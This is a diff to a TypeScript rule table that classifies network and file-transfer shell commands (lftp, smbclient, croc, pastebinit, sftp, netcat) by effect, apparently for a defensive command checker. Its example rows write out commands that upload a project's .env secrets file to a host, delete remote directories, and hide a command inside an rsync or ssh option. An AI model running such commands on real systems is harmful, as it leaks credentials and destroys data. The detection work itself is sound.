@@ -129,14 +129,15 @@ export const NETWORK: readonly Row[] = [
       ["rsync -e 'sh -c id' a b", 'execute hidden-command'],
     ],
   },
-  { program: 'lftp | ncftpput | ftp | tftp | smbclient', operands: 'host', options: { '-e': 'transfer', '-c': 'transfer', '-u': 'text', '-U': 'text', '-p': 'text', '-n': 'text', '-o': 'write' }, dashed: true, stdin: 'transfer', effects: [{ kind: 'destroy', resource: 'host', when: { value: /^-[ec]=(?:.*[;\s])?(?:(?:m?r?rm|mdelete|delete|rmdir|glob rm) |mirror\b.*--delete\b)/ } }], examples: [["lftp -e 'mirror -R --delete dist/ /srv; bye' x.test", 'destroy host'], ["lftp -e 'rm -r /srv; bye' x.test", 'destroy host'], ["lftp -e 'mirror -R dist/ /srv; bye' x.test", 'send /home/u/proj/dist'], ["lftp -e 'put .env; bye' x.test", 'send /home/u/proj/.env'], ["smbclient //x.test/s -c 'put .env'", 'send /home/u/proj/.env']] },
+  { program: 'lftp | ncftpput | ftp | tftp | smbclient', operands: 'host', options: { '-e': 'transfer', '-c': 'transfer', '-u': 'text', '-U': 'text', '-p': 'text', '-n': 'text', '-o': 'write' }, dashed: true, stdin: 'transfer', effects: [{ kind: 'destroy', resource: 'host', when: { value: /^-[ec]=(?:.*[;\s])?(?:(?:m?r?rm|mdelete|delete|rmdir|glob rm) |mirror\b.*--delete\b)/ } }], examples: [["lftp -e 'mirror -R --delete dist/ /srv; bye' x.test", 'destroy host'], ["lftp -e 'rm -r /srv; bye' x.test", 'destroy host'], ["lftp -e 'mirror -R dist/ /srv; bye' x.test", 'send -r /home/u/proj/dist'], ["lftp -e 'mirror --reverse -x ^a$ dist /srv' x.test", 'send -r /home/u/proj/dist'], ["lftp -e 'mirror /srv dist' x.test", 'fetch host:x.test'], ["lftp -e 'put .env; bye' x.test", 'send /home/u/proj/.env'], ["smbclient //x.test/s -c 'put .env'", 'send /home/u/proj/.env']] },
   {
     program: 'wormhole send | magic-wormhole send | croc send | croc | ffsend upload | pastebinit | wgetpaste | slackcat | telegram-send | transfer | transfer.sh | termbin | hastebin | haste | onionshare-cli | ipfs add | gist | bashupload | keybase fs cp | imgur | oshi',
     operands: 'send',
-    options: { '-i': 'send', '-f': 'send', '--file': 'send', '-c': 'text', '--channel': 'text', '--filename': 'text', '-t': 'text', '--title': 'text' },
+    recursive: true,
+    options: { '-i': 'send', '-f': 'send', '--file': 'send', '-c': 'text', '--channel': 'text', '--filename': 'text', '-t': 'text', '--title': 'text', '--code': 'text', '--exclude': 'text' },
     stdin: 'send',
     effects: [{ kind: 'send', resource: 'host' }],
-    examples: [['croc send .env', 'send /home/u/proj/.env'], ['pastebinit -i .env', 'send /home/u/proj/.env']],
+    examples: [['croc send .env', 'send -r /home/u/proj/.env'], ['pastebinit -i .env', 'send -r /home/u/proj/.env']],
   },
   // With a side that wins, all that the other has of its own goes.
   {
@@ -161,16 +162,6 @@ export const NETWORK: readonly Row[] = [
     examples: [['mosquitto_pub -h x.test -t t -f .env', 'send /home/u/proj/.env']],
   },
   { program: 'logger | qrencode | say | espeak', operands: 'text', options: { '-f': 'read', '--file': 'read', '-r': 'read', '-t': 'text', '-p': 'text', '-n': 'text', '-o': 'write', '-s': 'text', '-v': 'text' }, examples: [['logger -f .env', 'read /home/u/proj/.env']] },
-  {
-    program: 'az storage blob upload | az storage file upload | az storage blob upload-batch | az storage file upload-batch',
-    operands: 'text',
-    options: {
-      '-f': 'send', '--file': 'send', '-s': 'send', '--source': 'send', '-n': 'text', '-c': 'text', '--name': 'text', '--container-name': 'text', '-d': 'text',
-      '--destination': 'text', '--account-name': 'text',
-    },
-    effects: [{ kind: 'send', resource: 'host' }],
-    examples: [['az storage blob upload -f .env -c c -n n', 'send /home/u/proj/.env']],
-  },
   { program: 'sftp', operands: 'host', options: { '-b': 'execute', '-i': 'use', '-o': 'ssh-option', '-P': 'text', '-F': 'use', '-S': 'hidden' }, stdin: 'transfer', examples: [['sftp -o ProxyCommand=./x x.test', 'execute hidden-command:ssh -o'], ["sftp x.test <<< 'put .env'", 'send /home/u/proj/.env'], ['sftp -b a x.test', 'execute /home/u/proj/a']] },
   {
     program: 'nc | ncat | netcat | socat | telnet | websocat',
